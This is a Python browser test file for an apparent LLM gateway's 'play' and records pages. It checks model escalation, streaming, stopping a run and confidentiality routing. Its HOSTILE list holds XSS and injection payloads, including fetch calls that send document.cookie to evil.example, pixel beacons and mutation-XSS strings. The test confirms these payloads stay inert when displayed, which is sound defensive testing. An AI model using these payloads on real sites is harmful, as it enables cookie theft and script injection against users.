"""Play and records in a real browser: an escalation is seen, a model is stopped, hostile words stay words."""

from __future__ import annotations

import re
import socket
import threading
from contextlib import suppress
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest

from tests.auth.user_client import Browser, new_user
from tests.graphql.graphql_client import graphql
from tests.running_server import Served, serving, until
from tests.studio import traffic
from tests.studio.browser import tab
from tests.studio.test_builder import published

pytestmark = pytest.mark.browser
ESCALATES = (
    "Why is the sky blue? [[echo/small: say Because of the ocean]] [[echo/small: logprob -3]]"
    " [[echo/large: say Air scatters blue light.]]"
)
MARKS = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe srcdoc='<script>{}</script>'>")
CALLS = ("alert(1)", "fetch('https://evil.example/?'+document.cookie)", "location='https://evil.example'")
HOSTILE = (
    *(mark.format(call) for mark in MARKS for call in CALLS),
    "javascript:alert(1)",
    "[click](javascript:alert(1))",
    "![beacon](https://evil.example/pixel?q=secret)",
    "<a href='https://evil.example' ping='https://evil.example/p'>x</a>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<form action=https://evil.example><button>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<video src=https://evil.example/x autoplay>",
    "<math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "data:text/html,<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`${alert(1)}`",
    "'\"><b onmouseover=alert(1)>x",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "\u202egnp.exe\u2066 reversed \u2069",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]\n```",
    "$$\\href{javascript:alert(1)}{x}$$",
    "A" * 50_000,
)


def test_an_escalation_is_seen_with_its_attempts_and_exact_costs(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=auto&m=echo/small")
        opened.page.get_by_label("Prompt").fill(ESCALATES)
        opened.page.get_by_role("button", name="Run").click()
        auto = opened.page.get_by_role("region", name="Answer of auto")
        auto.get_by_text("Air scatters blue light.", exact=True).wait_for()
        auto.get_by_text("not trusted", exact=True).wait_for()
        auto.get_by_text("answered after a smaller model was not trusted").wait_for()
        small = opened.page.get_by_role("region", name="Answer of echo/small")
        small.get_by_text("Because of the ocean", exact=True).wait_for()
        auto.get_by_text("Why this model: 2 considered").click()
        auto.get_by_text("can answer").first.wait_for()
        auto.get_by_text("Copy as code").click()
        auto.get_by_role("button", name="Python").click()
        auto.get_by_text("from openai import OpenAI").wait_for()
        opened.picture("play-escalation")
        assert opened.inaccessible() == []
        auto.get_by_role("link", name="Open its record").click()
        opened.page.get_by_role("heading", name="What it caused").wait_for()
        assert opened.page.url.startswith(f"{server.url}/records/") and "sky" not in opened.page.url
        assert _spent(server, opened.page.url.rpartition("/")[2]), "the attempts' costs are the request's"
        opened.page.get_by_role("button", name="Show contents").click()
        opened.page.get_by_text("Because of the ocean").first.wait_for()
        opened.picture("record")
        assert opened.inaccessible() == []
        assert opened.wrong() == []


def test_story_3_columns_stream_side_by_side_and_are_kept_while_the_prompt_is_not(
    browser: Any, server: Served, anna: Browser
) -> None:
    with tab(browser, server, anna) as opened:
        page = opened.page
        opened.open("/play?m=echo/small&m=echo/large")
        page.get_by_label("Prompt").fill("[[pace 0.05]] [[repeat 200]] relativity")
        page.get_by_role("button", name="Run").click()
        regions = [page.get_by_role("region", name=f"Answer of echo/{name}") for name in ("small", "large")]
        for region in regions:
            region.get_by_text("relativity").first.wait_for()
        assert page.get_by_role("button", name="Stop").is_visible(), "both run at once"
        page.get_by_role("button", name="Stop").click()
        page.get_by_label("Prompt").fill("A short one [[say Time is relative.]]")
        page.get_by_role("button", name="Run").click()
        for region in regions:
            region.get_by_text("Time is relative.", exact=True).wait_for()
            for name in ("First word", "Total", "Cost", "Tokens"):
                region.get_by_text(name, exact=True).wait_for()
            region.get_by_text("named in the request").first.wait_for()
        page.get_by_role("button", name="Compare").click()
        page.get_by_role("region", name="Answer of").nth(2).wait_for()
        assert "relative" not in page.url
        page.reload()
        page.get_by_role("region", name="Answer of").nth(2).wait_for()
        assert page.get_by_text("Time is relative.", exact=True).count() == 0
        assert opened.wrong() == []


def test_story_4_a_confidential_question_never_reaches_a_cloud_and_the_page_says_so(
    browser: Any, tmp_path: Path
) -> None:
    reached: list[object] = []
    with socket.create_server(("127.0.0.1", 0)) as cloud:
        threading.Thread(target=_count, args=(cloud, reached), daemon=True).start()
        address = f"http://127.0.0.1:{cloud.getsockname()[1]}/v1"
        config = f'{traffic.SETTINGS}\n[providers.cloud]\nbase_url = "{address}"\nplace = "anyone"\nmodels = ["big"]\n'
        with serving(tmp_path, config) as server, tab(browser, server, new_user(server, "c@x.example", "owner")) as at:
            at.open("/play?m=cloud/big")
            at.page.get_by_role("button", name="Options").click()
            at.page.get_by_label("Confidentiality").select_option("confidential")
            at.page.get_by_label("Prompt").fill("Our salaries")
            at.page.get_by_role("button", name="Run").click()
            at.page.get_by_role("alert").filter(has_text="confidential").wait_for()
            at.page.get_by_text(re.compile("Why this model|Why no model")).click()
            at.page.get_by_text(re.compile("confidential")).nth(1).wait_for()
            at.picture("play-refused")
            assert at.inaccessible() == []
        assert reached == []


def test_a_flow_is_asked_in_play_and_nothing_fails_on_the_way(browser: Any, server: Served, anna: Browser) -> None:
    published(server, "played")
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=flow:played")
        opened.page.get_by_label("Prompt").fill("Hello [[say Good day.]]")
        opened.page.get_by_role("button", name="Run").click()
        opened.page.get_by_text("Said: Good day.").wait_for()
        opened.page.get_by_role("link", name="Open its record").click()
        opened.page.get_by_role("heading", name="What it caused").wait_for()
        assert opened.wrong() == []


def test_stop_stops_the_model(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=echo/large")
        opened.page.get_by_label("Prompt").fill("stopped [[pace 0.05]] [[repeat 9999]]")
        opened.page.get_by_role("button", name="Run").click()
        opened.page.get_by_text("stoppedstopped").wait_for()
        opened.page.get_by_role("button", name="Stop").click()
        opened.page.get_by_text("Stopped. The model was cancelled.").wait_for()
        until(lambda: _last(server, "echo/large")["status"] == 499)
        assert opened.wrong() == []


def test_a_thumb_is_of_one_answer(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        page = opened.page
        opened.open("/play?m=echo/small")
        for number in ("one", "two"):
            page.get_by_label("Prompt").fill(f"Rate it [[say Answer {number}.]]")
            page.get_by_role("button", name="Run").click()
            page.get_by_text(f"Answer {number}.", exact=True).wait_for()
            page.get_by_role("button", name="Good answer", pressed=False).click()
            page.get_by_role("button", name="Good answer", pressed=True).wait_for()
        assert opened.wrong() == []


def test_what_a_request_is_refused_for_is_said_in_words(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=auto")
        opened.page.get_by_label("Prompt").fill("Hello [[fail refused]]")
        opened.page.get_by_role("button", name="Run").click()
        opened.page.get_by_role("alert").filter(has_text="refuses").wait_for()


def test_new_records_wait_until_they_are_asked_for(browser: Any, server: Served, anna: Browser) -> None:
    with tab(browser, server, anna) as opened:
        opened.open("/records?requestedModel=echo%2Fsmall")
        rows = opened.page.locator("tbody tr")
        before = rows.count()
        opened.page.evaluate("scrollTo(0, 200)")
        at = opened.page.evaluate("scrollY")
        asked: list[str] = []
        opened.page.on("request", lambda request: asked.append(request.url))
        for _ in range(3):
            server.chat("echo/small", "one more")
        opened.page.get_by_role("button", name="3 new").wait_for()
        assert asked == [], "the server tells it: the page does not ask"
        assert rows.count() == before
        assert opened.page.evaluate("scrollY") == at, "what arrives does not move the page"
        opened.page.get_by_role("button", name="3 new").click()
        until(lambda: rows.count() == before + 3)
        assert opened.wrong() == []


def test_hostile_words_do_nothing_wherever_they_stand(browser: Any, server: Served, anna: Browser) -> None:
    assert len(HOSTILE) >= 40
    with tab(browser, server, anna) as opened:
        opened.open("/play?m=echo/small")
        for words in HOSTILE:
            opened.page.get_by_label("Prompt").fill(words)
            opened.page.get_by_role("button", name="Run").click()
            opened.page.get_by_role("link", name="Open its record").wait_for()
        for words in HOSTILE[:12]:
            server.chat(words, words)
            server.ask("/v1/chat/completions", {"model": "echo/small", "messages": []}, x_sizewise_session="x")
        opened.open("/records")
        opened.page.get_by_text("<script>").first.wait_for()
        for trace in _traces(server, 4):
            opened.open(f"/records/{trace}")
            opened.page.get_by_text("estimated by time and the power of this machine").first.wait_for()
            opened.page.get_by_role("button", name="Show contents").click()
            opened.page.get_by_text("Request", exact=True).wait_for()
        assert opened.wrong() == []


def _spent(server: Served, trace: str) -> bool:
    """Whether the attempts of a request cost, to the pico-dollar, what the request did."""
    query = "query($t: String!) { records(filter: { trace: $t }) { rows { costUsd attempts { costUsd } } } }"
    (row,) = graphql(server, query, t=trace).data["records"]["rows"]
    return len(row["attempts"]) == 2 and Decimal(row["costUsd"]) == sum(Decimal(a["costUsd"]) for a in row["attempts"])


def _count(listening: socket.socket, reached: list[object]) -> None:
    with suppress(OSError):
        while True:
            reached.append(listening.accept())


def _last(server: Served, model: str) -> dict[str, Any]:
    query = "query($m: String) { records(last: 1, filter: { requestedModel: $m }) { rows { status } } }"
    found: dict[str, Any] = graphql(server, query, m=model).data["records"]["rows"][0]
    return found


def _traces(server: Served, last: int) -> list[str]:
    query = "query($n: Int, $f: RecordFilter) { records(last: $n, filter: $f) { rows { trace } } }"
    chosen = {"requestedModel": "echo/small", "failed": False}
    return [row["trace"] for row in graphql(server, query, n=last, f=chosen).data["records"]["rows"]]
